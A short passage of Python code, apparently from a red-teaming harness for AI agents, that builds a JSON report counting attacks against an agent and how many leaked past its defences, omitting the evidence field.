        "agent": agent.name, "attacks": len(outcomes), "leaks": sum(not o.blocked for o in outcomes),
        "results": [{k: v for k, v in dataclasses.asdict(o).items() if k != "evidence"} for o in outcomes],
    }, indent=2)
